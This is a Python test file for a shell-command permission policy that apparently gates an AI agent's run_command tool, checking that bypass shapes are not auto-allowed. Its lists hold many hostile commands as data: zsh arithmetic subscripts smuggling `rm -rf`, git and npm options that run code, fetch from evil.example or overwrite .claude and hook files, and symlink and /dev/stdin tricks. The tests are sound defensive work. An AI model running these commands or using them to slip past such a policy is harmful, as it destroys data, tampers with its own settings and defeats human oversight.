"""Shapes from the fourteenth shell-rules review's second wave: git and npm run again, zsh's
own arithmetic, and bash and dash beyond the fuzzer's grammar (FINDINGS F130-F134).

Each was run (git 2.39 in a bubblewrap sandbox; zsh 5.9, bash 5.2 and dash through the
oracle) and did what the rules do not allow while the engine said ALWAYS: git renamed a
file into `.git/hooks` before it refused the path, wrote `.githooks` and `.claude` from
another branch or a patch, deleted an untracked `.claude/settings.json`, ran
`git-merge-NAME` from the PATH and `ls-remote`'s hidden `--exec`, and reached a host its
options' spellings hid; `git --no-pager push` passed a NEVER rule for `git push*`; zsh ran
the `$(…)` of a subscript it evaluated as arithmetic (COLUMNS, printf's numbers, `test
-t`); `A || cd DIR && B` ran B where A ran; a write to /dev/stdin reopened the file the
command read on it; `cp -P` copied a link to `/` from outside.
"""

import pytest

from governance.policy import PolicyDocument, Verdict, compile_policy
from tests.governance.policy.test_review_shell_2 import verdict
from tests.shell_corpus.policies import kinds, review_policy

NOT_ALLOWED = [
    # F130 git mv renames before it checks; pathspecs written, globbed or magic
    "git --no-pager mv -f cfg .git/config",
    "git --no-pager mv hook.sh .git/hooks/pre-commit",
    "git --no-pager mv hook.sh .githooks/pre-commit && git commit -q -m x",
    "git --no-pager mv envfile .env",
    "git checkout HEAD -- .githooks/pre-commit",
    "git checkout side -- .githooks",
    "git restore --source=side .githooks/pre-commit",
    "git restore -s side .claude",
    "git checkout side -- '*settings.json'",
    "git checkout side -- :/.githooks",
    "git restore --source=side ':(top).claude'",
    "git --no-pager rm .claude/settings.json",
    # F130 untracked files deleted everywhere; patches; hand-made entries
    "git stash push -u -- .claude",
    "git stash -u",
    "git stash push -qa",
    "git --no-pager clean -fdx -- .claude",
    "git --no-pager clean -fx .env",
    "git --no-pager clean -fd",
    "git --no-pager apply p.diff",
    "git --no-pager am p.mbox",
    "git --no-pager update-index --add --cacheinfo 120000,34ed534fa65f0c6634f8606abb2,r",
    "printf '120000 blob abc\\tr' | git --no-pager mktree",
    # F130 programs run, addresses reached, configuration changed
    "git --no-pager ls-remote --exec='touch /workspace/PWNED;' origin",
    "git --no-pager ls-remote --exe='touch /workspace/PWNED;' origin",
    "git --no-pager merge --no-edit -s evil side",
    "git --no-pager cherry-pick --strategy=evil side",
    "git --no-pager clone --bundle-uri=https://evil.example/b . c",
    "git --no-pager submodule set-url s evil.example:x",
    "git --no-pager submodule sync",
    "git --no-pager worktree repair /tmp/x",
    "git fetch -qo x evil.example:x",
    "git --no-pager pull -qs ort evil.example:x",
    "git --no-pager push -qo x evil.example:x main",
    "git --no-pager clone -qb main evil.example:x c",
    "git --no-pager clone --dep 1 evil.example:x c",
    "git fetch --submodule-prefix x evil.example:x",
    "git fetch --recurse-submodules evil.example:x",
    "git --no-pager submodule add --name n --depth 1 evil.example:x s",
    "git --no-pager submodule -q add evil.example:x s",
    "git --no-pager remote -v prune -n evil.example:x",
    # F131 `A || cd DIR && B`; /dev/stdin reopening a file read; links copied from outside
    "true || cd src && mkdir -p ../etc/fluidbox-x",
    "ls || cd src && echo x > ../etc/fluidbox-x",
    "true || cd src && cat < ../etc/passwd",
    "echo x 0< .pre-commit-config.yaml > /dev/stdin",
    "echo x 1< pyvenv.cfg >> /dev/stdout",
    "cp notes.txt /dev/stdin 0< README.md",
    "echo pwned | tee /dev/stderr 2< README.md",
    "echo x 0< notes.txt 2>&0 > /dev/stderr",
    "sh -c 'echo x > /dev/stdin' 0< pyvenv.cfg",
    "cp -P /proc/self/root r && echo x > r/etc/fluidbox-x",
    "cp -r /proc/self/root r; echo x > r/etc/fluidbox-x",
    "cp -a /etc/os-release r; echo x >> r",
    "cp --no-deref /proc/self/root r",
    "echo 'rm -rf /workspace/victim' > /workspace/.home/.zlogout",
    # F132 npm: a single dash before a long name, double negations, specs elsewhere
    "npm test -script-shell=/tmp/evil/sh",
    "npm run build -script-sh=/tmp/evil/sh",
    "npm test -node-options=--require=/tmp/evil/x.js",
    "npm test -userc=/tmp/evil/rc",
    "npm install -prefi=/tmp/out",
    "npm ls -cache=/tmp/cachex",
    "npm view lodash -proxy=http://10.9.9.9:3128",
    "npm install --no-no-global",
    "npm install --no-global=false",
    "npm install --no-global false",
    "npm install --local=false",
    "npm install -local=false",
    "npm install x@~/pkg",
    "npm install x@~/pkg.tgz",
    "npm install file://tmp/evil/pkg",
    "npm install x@file://tmp/evil/pkg",
    "npm install x@e/x#main",
    "npm install @s/x@e/x",
    # F133 backups renamed onto configuration paths; a climbing link moved up a folder
    "printf 'PWN=1\\n' > .en && cp -b -S v notes.txt .en",
    "printf 'home = /workspace/bin\\n' > pyvenv && cp -S .cfg notes.txt pyvenv",
    "printf 'PWN=1\\n' > .en && mv -S v notes.txt .en",
    "mkdir -p .clau e && printf '{}' > .clau/settings.json && mv -T --suffix=de --backup e .clau",
    "mkdir -p .githook e && mv -T -b -S s e .githook",
    "cp --suf=v notes.txt .en",
    "cp -fbSv notes.txt .en",
    "mv -fS v notes.txt .en",
    "mkdir -p a etc && touch etc/hostname && cd a && cp -s ../etc/hostname h && cp -P h ../h"
    " && cd .. && echo x >> h",
    "mkdir -p a/b etc && touch etc/hostname && cd a/b && cp -s ../../etc/hostname h && cd ../.."
    " && mv a/b b && echo x >> b/h",
]


@pytest.mark.parametrize("command", NOT_ALLOWED)
def test_what_the_real_tools_and_shells_did_needs_a_rule_that_names_it(command):
    assert verdict(command) is not Verdict.ALWAYS


ZSH_ARITHMETIC = [
    "COLUMNS='path[$(rm -rf /workspace/victim)]' echo hi",
    "LINES='argv[`rm -rf /workspace/victim`]' git status",
    "printf '%d' 'path[$(rm -rf /workspace/victim)]'",
    "printf '%s %.*s' x 'PWD[$(rm -rf /workspace/victim)]' y",
    "time printf '%d' 'path[$(rm -rf /workspace/victim)]'",
    "[ -t 'path[$(rm -rf /workspace/victim)]' ]",
    "test -t 'LANG[$(echo x > /etc/fluidbox-x)]'",
    "mkdir 5 && cp bin/ls 5/ls && printf %d PATH=5 && ls",
    "mkdir 5 && cp bin/ls 5/ls && [ -t PATH=5 ] ; ls",
    # F134 what printf reads as a number beyond plain conversions
    "printf '%ld' 'path[$(rm -rf /workspace/victim)]'",
    "printf 'ab%n' 'argv[$(rm -rf /workspace/victim)]'",
    "mkdir 5 && cp bin/ls 5/ls && printf 'abcde%n' PATH && ls",
    "printf '%*1$d' 'path[$(rm -rf /workspace/victim)]'",
    "printf '%\\x64' 'path[$(rm -rf /workspace/victim)]'",
    "printf '%\\144' 'argv[$(rm -rf /workspace/victim)]'",
    "printf '\\u0025d' 'path[$(rm -rf /workspace/victim)]'",
    "printf '%*\\d' 'path[$(rm -rf /workspace/victim)]'",
    "printf '\\%s%d' 'path[$(rm -rf /workspace/victim)]'",
    "echo hi | printf '%ld' 'path[$(rm -rf /workspace/victim)]'",
    "TZ=:=ls date",
]


@pytest.mark.parametrize("command", ZSH_ARITHMETIC)
def test_what_zsh_evaluates_as_arithmetic_is_not_allowed_there(command):
    assert verdict(command, "zsh") is not Verdict.ALWAYS


@pytest.mark.parametrize(
    "command", ["printf '%d' 'path[$(x)]'", "[ -t 'path[$(x)]' ]", "printf %d PATH=5"]
)
def test_bash_and_dash_read_only_numbers_there(command):
    # bash's and dash's printf and test take a number or fail: nothing is evaluated
    assert verdict(command, "bash") is Verdict.ALWAYS
    assert verdict(command, "sh") is Verdict.ALWAYS


PUSH_NEVER = compile_policy(
    PolicyDocument.from_dict(
        {
            "name": "git-star",
            "rules": [
                {"pattern": "run_command:git push*", "action": "NEVER"},
                {"pattern": "run_command:git *", "action": "ALWAYS"},
                {"pattern": "run_command:cargo publish*", "action": "NEVER"},
                {"pattern": "run_command:cargo *", "action": "ALWAYS"},
                {"pattern": "run_command:twine upload*", "action": "NEVER"},
                {"pattern": "run_command:twine *", "action": "ALWAYS"},
            ],
        }
    )
)


def _push_never(command: str) -> Verdict:
    return PUSH_NEVER.evaluate("run_command", {"command": command}, kinds()["run_command"]).verdict


@pytest.mark.parametrize(
    "command",
    [
        "git --no-pager push origin main",
        "git -P push origin main:p1",
        "git --no-optional-locks push origin main:p2",
        "git --literal-pathspecs push --force origin side:main",
        "git --no-pager push --mirror origin",
        "cargo --quiet publish",
        "cargo +nightly publish",
        "twine --verbose upload dist/x.whl",
    ],
)
def test_a_never_rule_holds_whatever_options_come_before_the_subcommand(command):
    assert _push_never(command) is Verdict.NEVER


@pytest.mark.parametrize("command", ["git --no-pager log", "git status", "cargo -q build"])
def test_other_subcommands_keep_their_rule(command):
    assert _push_never(command) is Verdict.ALWAYS


ALLOWED = [
    "git checkout main",
    "git checkout -b feature",
    "git checkout -- src/app.py",
    "git checkout .",
    "git restore src/app.py",
    "git restore --staged .",
    "git restore --staged .claude",
    "git stash",
    "git stash push -m wip",
    "git stash pop",
    "git stash push -u -- src/",
    "git --no-pager clean -n",
    "git --no-pager clean -fd -- build/",
    "git --no-pager mv a.py b.py",
    "git --no-pager apply --check p.diff",
    "git fetch origin",
    "git fetch -q origin main",
    "git fetch --depth 1 origin",
    "git --no-pager push -q origin main",
    "git --no-pager remote -v show -n origin",
    "git --no-pager update-index --refresh",
    "cd src && mkdir -p ../build",
    "ls && cd src && mkdir ../build",
    "echo error > /dev/stderr",
    "grep x < notes.txt > /dev/stderr",
    "cp -r src dst",
    "cp -a src/ build/",
    "cp -rL /etc/skel r",
    "printf '%d\\n' 42",
    "printf '%s\\n' 'key=value'",
    "printf '%5.2f %s\\n' 3.14 x",
    "[ -t 1 ]",
    "COLUMNS=120 ls",
    "npm test -- --watch",
    "npm install --save-dev @types/node@20",
    "npm install lodash@4.17.21",
    "npm install x@npm:y@1",
    "npm install --no-global",
    "npm install --local",
    "npm run -s build",
    "npm install ./packages/x",
    "cp -b notes.txt backup/notes.txt",
    "cp -s notes.txt link",
    "cd build && cp -s ../src/app.py .",
    "printf '%s: %s\\n' a b",
    "printf '%5.2f %s\\n' 3.14 x",
    "printf '%-20s|\\n' name",
]


@pytest.mark.parametrize("command", ALLOWED)
@pytest.mark.parametrize("shell", ["bash", "zsh"])
def test_what_agents_run_stays_allowed(command, shell):
    assert verdict(command, shell) is Verdict.ALWAYS


@pytest.mark.parametrize(
    "command",
    [
        "mapfile -C 'rm -rf /workspace/victim' -c 1 < notes.txt",
        "readarray -C'rm -rf /workspace/victim;:' -c1 < notes.txt",
        "complete -C 'rm -rf /workspace/victim' x; compgen -C 'rm -rf /workspace/victim' x",
        "shopt -s expand_aliases; alias ls='rm -rf /workspace/victim'; ls",
        "bind -x '\"\\C-x\": rm -rf /workspace/victim'",
    ],
)
def test_code_a_builtin_runs_later_is_read_for_never_rules(command):
    # outside the subset these were ASK, which an autonomous run's `allow` fallback lets
    # through; the NEVER rule for `rm *` must see the `rm` (F131)
    evaluation = review_policy().evaluate(
        "run_command", {"command": command}, kinds()["run_command"]
    )
    assert evaluation.verdict is Verdict.NEVER


@pytest.mark.parametrize(
    "builtin",
    ["bye", "getln", "private", "zformat -f", "zparseopts -a", "zstyle -s ctx st", "zregexparse"],
)
def test_zsh_builtins_that_assign_by_name_need_more_than_a_rule_for_them(builtin):
    program = builtin.split()[0]
    policy = compile_policy(
        PolicyDocument.from_dict(
            {"name": "x", "rules": [{"pattern": f"run_command:{program} *", "action": "ALWAYS"}]}
        )
    )
    command = f"{builtin} 'path[$(rm -rf /workspace/victim)]'"
    evaluation = policy.evaluate("run_command", {"command": command}, kinds("zsh")["run_command"])
    assert evaluation.verdict is not Verdict.ALWAYS
